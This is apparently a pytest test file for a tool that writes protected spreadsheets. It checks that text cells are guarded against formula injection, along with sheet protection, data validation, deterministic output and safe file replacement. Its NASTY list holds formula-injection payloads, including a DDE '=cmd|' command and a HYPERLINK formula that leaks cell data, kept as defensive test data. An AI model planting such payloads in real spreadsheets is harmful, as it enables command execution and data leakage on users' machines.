"""The spreadsheet that people get: safe, protected where it must not change, the same every time."""

from __future__ import annotations

from datetime import datetime

import openpyxl
import pytest
import time_machine
from hypothesis import given, settings
from hypothesis import strategies as st

from exodossier.domain.errors import Refused, StoreTrouble
from exodossier.sheets import writing
from exodossier.sheets.guarding import guarded, unguarded
from exodossier.sheets.writing import as_bytes, write
from tests.sheets.book_samples import ROWS, book, grid, made, through_office

NASTY = (
    '=HYPERLINK("http://example.org/"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1", "'=1",
    "''=1", "'quoted'", "=", "-", "=cmd|' /C calc'!A0", "{=1}", "true", "007", "1e5", "2026-01-01", "#REF!",
    "_x000D_", "a\r\nb", "bell\x07", "half \ud83d", "<a>&amp;]]>", "مرحبا", "外泌体", "🧫", " blanks ",
    "{{ x }}",
)  # fmt: skip
CHANGED = {"_x000D_", "half \ud83d"}
"""What office programs take for a character, or cannot keep."""


def opened(path):
    return openpyxl.load_workbook(path)


@pytest.mark.parametrize("text", NASTY)
def test_a_text_stays_a_text_and_reads_back_as_it_was(tmp_path, text):
    path = made(tmp_path, [("d a:1", text, "Open", text, "")])
    for cell in opened(path)["Tracker"][2]:
        assert cell.data_type in {"s", "n"}
        assert cell.value is None or not str(cell.value).startswith(tuple("=+-@\t\r\n"))
    assert grid(path)[1] == ("d a:1", text, "Open", text)


def test_what_looks_like_a_formula_is_marked_as_text(tmp_path):
    path = made(tmp_path, [("d a:1", "=1+1", "Open", "", "")])
    assert opened(path)["Tracker"]["B2"].quotePrefix


@pytest.mark.parametrize("text", [one for one in NASTY if one not in CHANGED])
def test_it_stays_one_in_an_office_program(office_copy, text):
    told = [row[3] for row in office_copy]
    assert told[NASTY.index(text) + 1].replace("\r\n", "\n") == text.replace("\r\n", "\n")


@pytest.fixture(scope="module")
def office_copy(tmp_path_factory):
    """All nasty texts, saved by LibreOffice."""
    folder = tmp_path_factory.mktemp("office")
    path = made(folder, [(f"d a:{n}", "x", "Open", text, "2026-12-01") for n, text in enumerate(NASTY)])
    return grid(through_office(path, folder))


@settings(max_examples=200)
@given(st.text())
def test_guarding_keeps_every_text(text):
    assert unguarded(guarded(text)) == text
    assert not guarded(text).startswith(tuple("=+-@\t\r\n"))


def test_the_heading_stays_in_view_with_filters_notes_and_widths(tmp_path):
    sheet = opened(made(tmp_path))["Tracker"]
    assert sheet.freeze_panes.endswith("2")
    assert sheet.auto_filter.ref == "A1:E3"
    assert sheet["B1"].comment.text == "What is asked."
    assert sheet.column_dimensions["D"].width == 31
    assert sheet.print_title_rows == "$1:$1"


def test_only_what_may_be_filled_in_is_open(tmp_path):
    sheet = opened(made(tmp_path))["Tracker"]
    assert sheet.protection.sheet
    assert not sheet.protection.password
    assert sheet.column_dimensions["A"].hidden
    assert [cell.protection.locked for cell in sheet[2]] == [True, True, False, False, False]


def test_statuses_are_chosen_from_a_list_that_stands_on_the_sheet_of_facts(tmp_path):
    work = opened(made(tmp_path))
    (choice, day) = work["Tracker"].data_validations.dataValidation
    assert (choice.type, str(choice.sqref), choice.formula1) == ("list", "C2:C3", "'About'!$D$2:$D$3")
    assert [work["About"][place].value for place in ("D1", "D2", "D3")] == ["Status", "Open", "Done"]
    assert (day.type, str(day.sqref)) == ("date", "E2:E3")


def test_days_are_days(tmp_path):
    path = made(tmp_path, [*ROWS, ("d a:3", "x", "Open", "", "1899-01-01"), ("d a:4", "x", "", "", "soon")])
    sheet = opened(path)["Tracker"]
    assert sheet["E2"].value == datetime.fromisoformat("2026-12-01")
    assert sheet["E2"].number_format == "yyyy-mm-dd"
    assert [row[4] for row in grid(path) if len(row) > 4] == ["Due", "2026-12-01", "1899-01-01", "soon"]


def test_the_sheet_of_origin_is_hidden_and_the_facts_are_not(tmp_path):
    work = opened(made(tmp_path))
    assert [(one.title, one.sheet_state) for one in work] == [
        ("Tracker", "visible"), ("Made from", "hidden"), ("About", "visible"),
    ]  # fmt: skip
    assert work["About"]["B2"].value == "Return it."


def test_the_same_content_gives_the_same_bytes():
    with time_machine.travel("2026-01-01T00:00:00Z"):
        first = as_bytes(book())
    with time_machine.travel("2027-06-01T12:00:00+09:00"):
        assert as_bytes(book()) == first


@pytest.mark.parametrize("name", ["tracker.docx", "tracker", "folder.xlsx", "none/tracker.xlsx"])
def test_only_a_spreadsheet_is_ever_replaced(tmp_path, name):
    (tmp_path / "folder.xlsx").mkdir()
    (tmp_path / "tracker.docx").write_text("mine")
    with pytest.raises(Refused):
        write(tmp_path / name, book())
    assert (tmp_path / "tracker.docx").read_text() == "mine"


def test_a_write_that_fails_leaves_the_old_file(tmp_path, monkeypatch):
    path = made(tmp_path)
    before = path.read_bytes()

    def full(_handle):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(writing.os, "fsync", full)
    with pytest.raises(StoreTrouble, match="write"):
        write(path, book(()))
    assert path.read_bytes() == before
    assert list(tmp_path.iterdir()) == [path]
